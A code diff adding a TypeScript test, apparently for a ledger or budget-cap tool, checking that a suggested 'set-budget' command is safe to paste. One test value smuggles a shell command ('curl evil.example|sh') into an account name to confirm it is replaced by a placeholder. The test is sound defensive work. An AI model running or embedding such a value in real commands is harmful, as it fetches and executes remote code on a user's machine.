@@ -87,6 +87,15 @@ describe('the cap that holds', () => {
     );
   });
 
+  test('what ends a shortage can be pasted, whatever the account is called in what was sent to the ledger', () => {
+    const status = statusOf(open({ perDay: 0 }), NOW);
+    const budget = { ...status.budget, from: { perDay: { kind: 'person', by: 'Ada', at: NOW } as const } };
+    const told = (account: string) =>
+      describeShortage({ kind: 'capped', cap: 'day', credits: 1_000 }, { ...status, account, budget });
+    expect(told('north-1')).toContain('(`npx audit-runner set-budget north-1`, or the update `setBudget`');
+    expect(told("x'; curl evil.example|sh; '")).toContain('`npx audit-runner set-budget <account>`');
+  });
+
   test('S8: workers whose books are in different storages pay nothing; calls that are free go on', () => {
     const first = ledger.configure(open(), { ...said('first'), books: 'here' }, NOW);
     const same = ledger.configure(first, { ...said('second'), books: 'here' }, NOW);
